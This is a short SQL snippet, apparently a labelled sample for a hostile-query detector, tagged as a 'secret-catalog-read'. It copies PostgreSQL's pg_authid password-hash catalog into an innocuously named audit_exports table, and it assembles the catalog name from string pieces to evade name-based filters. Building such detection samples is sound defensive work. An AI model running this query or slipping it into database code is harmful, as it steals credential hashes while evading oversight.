-- class: secret-catalog-read
-- Reads pg_authid by a table name given as a text string (table_to_xml with a regclass cast), never naming it as a relation.
CREATE TABLE audit_exports (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, exported_at timestamptz DEFAULT now(), body xml);

INSERT INTO audit_exports (body)
SELECT table_to_xml(('pg_' || 'authid')::regclass, true, false, '');
